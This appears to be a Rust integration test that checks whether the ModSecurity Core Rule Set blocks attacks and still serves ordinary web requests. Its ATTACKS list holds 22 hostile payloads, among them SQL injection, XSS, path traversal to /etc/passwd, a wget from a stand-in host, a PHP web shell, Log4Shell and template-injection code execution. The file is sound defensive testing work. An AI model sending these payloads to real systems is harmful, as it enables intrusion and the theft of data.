//! The Core Rule Set on top of the recommended configuration, refusing, at its defaults: what attacks is refused wherever it
//! hides, what is malformed is refused as without it, and what is ordinary is served.

use crate::harness::{Backend, Mpm, Server, Setup, missing};
use crate::material;

const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";
const JSON: &str = "Content-Type: application/json\r\n";
const XML: &str = "Content-Type: text/xml\r\n";
const PARTS: &str = "Content-Type: multipart/form-data; boundary=b\r\n";

/// Attacks of all sorts, as a target's query has them.
const ATTACKS: [&str; 22] = [
    "1%27%20OR%20%271%27=%271",
    "1%20UNION%20SELECT%20user,password%20FROM%20users--",
    "1;DROP%20TABLE%20users",
    "%27%20AND%20SLEEP(5)--%20-",
    "1/**/UNION/**/ALL/**/SELECT/**/NULL",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "%3Csvg/onload=alert(1)%3E",
    "javascript:alert(document.cookie)",
    "%22%3E%3Ciframe%20src=javascript:alert(1)%3E",
    "../../../../etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "/proc/self/environ",
    ";cat%20/etc/passwd",
    "%7C%20wget%20http://198.51.100.7/x.sh",
    "$(id)%3Bcat%20/etc/passwd",
    "()%20%7B%20:;%7D;%20echo%20vulnerable",
    "%3C?php%20system($_GET%5B%27c%27%5D);",
    "php://filter/convert.base64-encode/resource=index.php",
    "$%7Bjndi:ldap://198.51.100.7/a%7D",
    "%7B%7Bconstructor.constructor(%27return%20process%27)().mainModule.require(%27child_process%27).exec(%27id%27)%7D%7D",
];

/// What visitors of a weblog or a shop send.
const ORDINARY: [&str; 16] = [
    "",
    "hello",
    "Anna%20Maria%20O%27Brien",
    "caf%C3%A9%20cr%C3%A8me%20%E2%82%AC5",
    "https://www.example.test/2026/11/a-post/?page=2",
    "I%20would%20like%20to%20order%20two%20of%20them,%20please.",
    "2026-11-23T12:00:00Z",
    "anna%40example.test",
    "1.299,00",
    "%2B49%2030%201234567",
    "union%20of%20the%20workers",
    "a%20select%20few",
    "%E6%97%A5%E6%9C%AC%E8%AA%9E",
    "three%20for%20the%20price%20of%20two",
    "size=XL",
    "100%25%20cotton",
];

/// Decoded once, as bodies of other types have it.
fn decoded(value: &str) -> String {
    let mut bytes = Vec::new();
    let mut rest = value.as_bytes();
    while let Some((first, behind)) = rest.split_first() {
        let digits = behind
            .get(..2)
            .and_then(|digits| std::str::from_utf8(digits).ok());
        let byte = digits.and_then(|digits| u8::from_str_radix(digits, 16).ok());
        match (first, byte) {
            (b'%', Some(byte)) => {
                bytes.push(byte);
                rest = &behind[2..];
            }
            (first, _) => {
                bytes.push(*first);
                rest = behind;
            }
        }
    }
    String::from_utf8(bytes).expect("text")
}

/// A value in every place where applications look for one: method, target, headers, body.
fn places(value: &str) -> Vec<(&'static str, String, String, String)> {
    let text = decoded(value);
    let json = serde_json::json!({ "a": { "b": [text] } }).to_string();
    let escaped = text
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('"', "&quot;");
    let part =
        format!("--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{text}\r\n--b--\r\n");
    let post = |headers: &str, body: String| ("POST", "/echo".to_owned(), headers.to_owned(), body);
    vec![
        (
            "GET",
            format!("/echo?a={value}"),
            String::new(),
            String::new(),
        ),
        (
            "GET",
            format!("/echo?b=1&a={value}&c=2"),
            String::new(),
            String::new(),
        ),
        post(FORM, format!("b=1&a={value}")),
        post(JSON, json),
        post(XML, format!("<r><a>{escaped}</a></r>")),
        post(XML, format!("<r a=\"{escaped}\"/>")),
        post(PARTS, part),
    ]
}

fn start(mpm: Mpm, backend: &Backend, mode: &str) -> Option<Server> {
    let crs = material::crs();
    if !crs.join("rules").is_dir() {
        missing("Core Rule Set (set CRS_DIR)");
        return None;
    }
    let recommended = concat!(env!("CARGO_MANIFEST_DIR"), "/apache-conf/recommended.conf");
    let server = Setup::new()?
        .mpm(mpm)
        .modules(&["proxy", "proxy_http"])
        .conf(&format!("Include \"{recommended}\""))
        .conf(&format!(
            "Include \"{0}/crs-setup.conf.example\"\nInclude \"{0}/rules/*.conf\"",
            crs.display()
        ))
        .conf(&format!("SecRuleEngine {mode}"))
        .conf(&format!(
            "ProxyPass / http://127.0.0.1:{}/ nocanon",
            backend.port
        ))
        .start();
    Some(server)
}

/// What was answered otherwise than is right, and how many were asked.
fn ask(server: &Server, values: &[&str], right: u16) -> (usize, Vec<String>) {
    let mut asked = 0;
    let mut wrong = Vec::new();
    for value in values {
        for (method, target, headers, body) in places(value) {
            let headers = format!("{headers}User-Agent: Mozilla/5.0\r\nAccept: */*\r\n");
            // The host is a name: an address is suspicious by itself.
            let response = server.request(method, &target, &headers, body.as_bytes());
            asked += 1;
            if response.status != right {
                wrong.push(format!(
                    "{} instead of {right}: {method} {target} {body}",
                    response.status
                ));
            }
        }
    }
    (asked, wrong)
}

#[test]
fn attacks_are_refused_and_visitors_are_not() {
    for mpm in [Mpm::Event, Mpm::Prefork] {
        let backend = Backend::start();
        let Some(server) = start(mpm, &backend, "On") else {
            return;
        };
        let (attacks, mut wrong) = ask(&server, &ATTACKS, 403);
        let (visits, more) = ask(&server, &ORDINARY, 200);
        wrong.extend(more);
        // Malformed stays malformed.
        let broken: [(&str, &[u8]); 5] = [
            (JSON, b"{\"a\":"),
            (JSON, b"{'a':1}"),
            (XML, b"<r><a></r>"),
            (XML, b"<!DOCTYPE r [<!ENTITY e 'x'>]><r>&e;</r>"),
            (
                PARTS,
                b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\ncut",
            ),
        ];
        for (headers, body) in broken {
            let headers = format!("{headers}User-Agent: Mozilla/5.0\r\nAccept: */*\r\n");
            let response = server.request("POST", "/echo", &headers, body);
            if response.status != 400 {
                wrong.push(format!(
                    "{} instead of 400: {}",
                    response.status,
                    body.escape_ascii()
                ));
            }
        }
        println!(
            "with the Core Rule Set, {mpm:?}: {attacks} attacks and {visits} visits, {} wrong",
            wrong.len()
        );
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }
}

#[test]
fn detection_serves_attackers_and_visitors_alike() {
    let backend = Backend::start();
    let Some(server) = start(Mpm::Event, &backend, "DetectionOnly") else {
        return;
    };
    for values in [&ATTACKS[..], &ORDINARY] {
        let (_, wrong) = ask(&server, values, 200);
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }
}
